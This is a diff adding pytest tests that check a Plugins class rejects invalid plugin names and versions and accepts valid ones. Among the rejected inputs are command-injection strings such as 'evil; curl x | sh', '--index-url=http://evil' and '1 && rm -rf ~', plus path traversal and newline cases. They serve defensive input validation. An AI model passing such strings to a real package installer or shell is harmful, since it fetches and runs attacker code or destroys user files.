@@ -169,6 +169,32 @@ def test_repeated_class_names_are_refused() -> None:
         dataclasses.replace(DATASET, classes=("cat", "cat"))
 
 
+@pytest.mark.parametrize(
+    ("name", "version"),
+    [
+        ("evil; curl x | sh", "1"),
+        ("--index-url=http://evil", "1"),
+        ("a b", "1"),
+        ("", "1"),
+        ("-r", "1"),
+        ("good", "1 && rm -rf ~"),
+        ("good", "1\n"),
+        ("good\n", "1"),
+        ("../x", "1"),
+        ("x" * 200, "1"),
+    ],
+)
+def test_plugins_are_named_as_distributions(name: str, version: str) -> None:
+    for field in ("required", "used"):
+        with pytest.raises(ValueError, match="not the name and version of a distribution"):
+            Plugins.from_json({field: {name: version}})
+
+
+@pytest.mark.parametrize(("name", "version"), [("My_Nets.x", "1!2.0rc1+local.1"), ("a", "?"), ("b-2", "")])
+def test_real_names_and_versions_are_accepted(name: str, version: str) -> None:
+    assert Plugins(required={name: version}).required == {name: version}
+
+
 def test_a_weights_card_has_no_time_host_path_or_run() -> None:
     names = {item.name for item in dataclasses.fields(WeightsCard)}
     assert not {name for name in names if any(word in name for word in ("time", "date", "host", "path", "run"))}
